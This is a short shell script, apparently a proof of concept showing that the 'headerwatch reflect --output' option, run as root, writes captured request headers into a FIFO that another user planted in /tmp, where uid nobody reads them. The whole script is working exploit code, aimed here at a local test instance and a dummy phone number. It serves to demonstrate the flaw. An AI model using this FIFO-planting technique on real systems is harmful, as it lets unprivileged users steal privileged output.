#!/bin/sh
# root's reflect --output into a FIFO another user planted in /tmp: not refused (a regular file or symlink there is); records go to the planter
rm -f /tmp/hw46fifo.jsonl; mkfifo -m 0666 /tmp/hw46fifo.jsonl; chown nobody /tmp/hw46fifo.jsonl
setpriv --reuid=nobody --regid=nogroup --clear-groups timeout 8 cat /tmp/hw46fifo.jsonl > /tmp/atk46/w/fifo_stolen.txt &
sleep 0.3
timeout 5 /tmp/atk46/.venv/bin/headerwatch reflect --bind 127.0.0.1 --port 18093 --output /tmp/hw46fifo.jsonl 2>/dev/null &
sleep 1.5; curl -s -o /dev/null -H 'X-MSISDN: 447700900123' http://127.0.0.1:18093/secret; sleep 4
echo "read by uid nobody:"; cut -c1-160 /tmp/atk46/w/fifo_stolen.txt; rm -f /tmp/hw46fifo.jsonl
